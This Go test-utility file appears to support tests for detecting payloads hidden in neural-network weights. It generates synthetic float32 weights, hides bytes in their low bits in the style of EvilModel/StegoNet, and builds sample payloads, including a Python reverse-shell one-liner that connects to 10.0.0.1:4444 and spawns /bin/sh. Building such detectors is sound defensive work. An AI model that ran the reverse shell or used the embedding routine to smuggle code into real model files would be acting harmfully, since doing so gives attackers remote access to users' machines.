package testutil

import (
	"bytes"
	"encoding/binary"
	"math"
	"math/rand/v2"
)

// GaussF32 is n float32 weights drawn like a trained layer (std 0.02),
// little-endian.
func GaussF32(n int, seed uint64) []byte {
	r := rand.New(rand.NewPCG(seed, 1))
	b := make([]byte, 4*n)
	for i := 0; i < n; i++ {
		binary.LittleEndian.PutUint32(b[4*i:], math.Float32bits(float32(r.NormFloat64()*0.02)))
	}
	return b
}

// HalfOrigin rounds float32 weights to bfloat16 precision in place, as a
// model trained in bf16 and saved in fp32 is.
func HalfOrigin(b []byte) []byte {
	for i := 0; i+4 <= len(b); i += 4 {
		binary.LittleEndian.PutUint32(b[i:], binary.LittleEndian.Uint32(b[i:])&0xffff0000)
	}
	return b
}

// HideLSB writes payload into the k low bits of consecutive float32
// elements from element start (EvilModel/StegoNet style), in place.
func HideLSB(b []byte, payload []byte, k, start int) {
	bit := 0
	for el := start; bit < 8*len(payload); el++ {
		u := binary.LittleEndian.Uint32(b[4*el:])
		var v uint32
		for j := 0; j < k && bit < 8*len(payload); j++ {
			v |= uint32(payload[bit/8]>>(bit%8)&1) << j
			bit++
		}
		binary.LittleEndian.PutUint32(b[4*el:], u&^(1<<k-1)|v)
	}
}

// TextPayload is n bytes of a reverse-shell script.
func TextPayload(n int) []byte {
	var b bytes.Buffer
	for b.Len() < n {
		b.WriteString("import os, socket, subprocess; s=socket.socket(); s.connect(('10.0.0.1', 4444)); subprocess.call(['/bin/sh', '-i'])\n")
	}
	return b.Bytes()[:n]
}

// ELFPayload is n bytes that look like an executable: an ELF header,
// code-like bytes and zero padding.
func ELFPayload(n int) []byte {
	b := make([]byte, n)
	copy(b, "\x7fELF\x02\x01\x01\x00")
	r := rand.New(rand.NewPCG(7, 7))
	for i := 64; i < n; i++ {
		if i%7 < 3 {
			b[i] = byte(r.IntN(256))
		}
	}
	return b
}

// RandomPayload is n random bytes (an encrypted or compressed payload).
func RandomPayload(n int) []byte {
	b := make([]byte, n)
	r := rand.New(rand.NewPCG(9, 9))
	for i := range b {
		b[i] = byte(r.IntN(256))
	}
	return b
}
